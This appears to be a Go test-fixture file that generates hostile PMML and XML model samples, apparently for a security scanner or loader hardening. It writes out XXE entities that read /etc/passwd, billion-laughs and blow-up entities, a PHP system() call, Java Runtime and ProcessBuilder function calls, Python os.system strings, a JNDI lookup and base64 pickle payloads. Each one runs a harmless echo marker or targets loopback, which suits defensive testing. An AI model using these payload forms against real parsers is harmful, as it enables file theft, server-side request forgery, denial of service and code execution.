package hostile

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"strings"
	"unicode/utf16"
)

// declared puts the declaration of XML before a document.
func declared(document string) []byte {
	return []byte(`<?xml version="1.0" encoding="UTF-8"?>` + "\n" + document)
}

// laughs is a document type whose entities expand to three characters times ten to the power of levels.
func laughs(root string, levels int) string {
	var b strings.Builder
	fmt.Fprintf(&b, `<!DOCTYPE %s [<!ENTITY l0 "lol">`, root)
	for i := range levels {
		fmt.Fprintf(&b, `<!ENTITY l%d "%s">`, i+1, strings.Repeat(fmt.Sprintf("&l%d;", i), 10))
	}
	return b.String() + "]>"
}

// wideText is text in UTF-16 with a byte order mark.
func wideText(text string) []byte {
	b := []byte{0xff, 0xfe}
	for _, unit := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, unit)
	}
	return b
}

// pmmlDocument is a model with some content.
func pmmlDocument(content string) string {
	return `<PMML version="4.4"><Header/><DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>` +
		content + `<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="1"/></RegressionModel></PMML>`
}

// xmlSamples attack the parser of any model that is XML; the model is a harmless one in PMML.
func xmlSamples() []Sample {
	file := func(id, technique string, content []byte) Sample {
		return Sample{Name: "xml-" + id + ".pmml", Group: "xml", Technique: technique, Loader: "pmml", Build: build(content)}
	}
	typed := func(id, technique, doctype string) Sample {
		return file(id, technique, declared(doctype+pmmlDocument("<!-- &x; -->")))
	}
	return []Sample{
		typed("xxe-file", "XXE: an entity that is a file of the machine that reads", `<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>`),
		typed("xxe-address", "XXE: an entity that is an address inside of the network", `<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://127.0.0.1:9/meta-data">]>`),
		typed("xxe-parameter", "XXE: a parameter entity that loads more declarations", `<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://127.0.0.1:9/x.dtd"> %x;]>`),
		typed("xxe-public", "XXE: an entity by a public identifier", `<!DOCTYPE PMML [<!ENTITY x PUBLIC "any" "file:///etc/hostname">]>`),
		typed("xxe-subset", "XXE: an external subset", `<!DOCTYPE PMML SYSTEM "http://127.0.0.1:9/pmml.dtd">`),
		typed("xxe-subset-disguised", "XXE: an external subset under a well-known public identifier",
			`<!DOCTYPE PMML PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://127.0.0.1:9/svg11.dtd">`),
		typed("laughs", "billion laughs: nine levels of entities", laughs("PMML", 9)),
		typed("laughs-endless", "entities that contain each other", `<!DOCTYPE PMML [<!ENTITY a "&b;"><!ENTITY b "&a;">]>`),
		typed("blowup", "quadratic blow-up: one entity of 10 kB, used 200 times in another",
			`<!DOCTYPE PMML [<!ENTITY a "`+strings.Repeat("A", 10000)+`"><!ENTITY b "`+strings.Repeat("&a;", 200)+`">]>`),
		file("xxe-wide", "XXE in UTF-16, which readers of bytes do not see",
			wideText(`<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>`+pmmlDocument(""))),
		file("utf7", "markup hidden in UTF-7", []byte(`<?xml version="1.0" encoding="UTF-7"?>`+pmmlDocument("<!-- +ADw-script+AD4- -->"))),
		file("encoding-lie", "a document in ASCII that declares UTF-16", []byte(`<?xml version="1.0" encoding="UTF-16"?>`+pmmlDocument(""))),
		file("include", "XInclude of a file", declared(pmmlDocument(`<xi:include href="file:///etc/passwd" parse="text"/>`))),
		file("stylesheet", "a stylesheet, which is a program", declared(`<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>`+pmmlDocument(""))),
		file("php", "an instruction for PHP", declared(pmmlDocument(`<?php system('echo `+Marker+`'); ?>`))),
		file("deep", "5,000 nested elements", declared(`<PMML version="4.4">`+strings.Repeat("<Node>", 5000)+strings.Repeat("</Node>", 5000)+`</PMML>`)),
		file("truncated", "a document that ends inside of an element", declared(pmmlDocument(""))[:300]),
		file("second-root", "a second document behind the first", append(declared(pmmlDocument("")), pmmlDocument("<script/>")...)),
	}
}

// pmmlSamples are models in PMML that ask for more than arithmetic.
func pmmlSamples() []Sample {
	file := func(id, technique, content string) Sample {
		return Sample{Name: "pmml-" + id + ".pmml", Group: "pmml", Technique: technique, Loader: "pmml", Build: build(declared(pmmlDocument(content)))}
	}
	apply := func(function string) string {
		return `<TransformationDictionary><DerivedField name="y" optype="continuous" dataType="double"><Apply function="` + function +
			`"><FieldRef field="x"/><Constant dataType="string">echo ` + Marker + `</Constant></Apply></DerivedField></TransformationDictionary>`
	}
	extension := func(attrs, inner string) string { return `<Extension ` + attrs + `>` + inner + `</Extension>` }
	return []Sample{
		file("class-runtime", "JPMML: a function that is a Java class of the platform", apply("java.lang.Runtime")),
		file("class-script", "JPMML: a function that is a script engine", apply("javax.script.ScriptEngineManager")),
		file("class-own", "JPMML: a function that is a class of the attacker on the class path", apply("com.example.picket.Evil")),
		file("class-prefixed", "a Java class behind the prefix of vendors' functions", apply("x-java.lang.ProcessBuilder")),
		file("function-unknown", "a function that only the evaluator knows", apply("system")),
		file("script", "a script element, as servers with their own dialect run it",
			`<script for="preProcess" class="python">import os; os.system('echo `+Marker+`')</script>`),
		file("script-in-extension", "a script element inside of an Extension", extension(`name="pre"`, `<script>print('`+Marker+`')</script>`)),
		file("extension-python", "Python in an Extension", extension(`name="preprocess" value="__import__('os').system('echo `+Marker+`')"`, "")),
		file("extension-java", "Java in an Extension", extension(`name="init"`, `Runtime.getRuntime().exec("echo `+Marker+`")`)),
		file("extension-jndi", "a JNDI lookup in a text that a server logs (CVE-2021-44228)", extension(`name="note" value="${jndi:ldap://127.0.0.1:9/x}"`, "")),
		file("extension-markup", "markup with a script in an Annotation",
			`<Header2/>`+extension(`name="description"`, `&lt;script&gt;alert('`+Marker+`')&lt;/script&gt;`)),
		file("extension-pickle", "a pickle in base64 in an Extension", extension(`name="state" value="`+base64.StdEncoding.EncodeToString(attackPickle())+`"`, "")),
		file("extension-pickle-text", "a pickle in base64 as the text of an Extension", extension(`name="state"`, base64.StdEncoding.EncodeToString(attackPickle()))),
		file("extension-data-uri", "a pickle in a data address", extension(`name="state"`, "data:application/octet-stream;base64,"+base64.StdEncoding.EncodeToString(attackPickle()))),
		file("extension-hidden-python", "Python in base64 in an Extension",
			extension(`name="x" value="`+base64.StdEncoding.EncodeToString([]byte("__import__('os').system('echo "+Marker+"')"))+`"`, "")),
	}
}
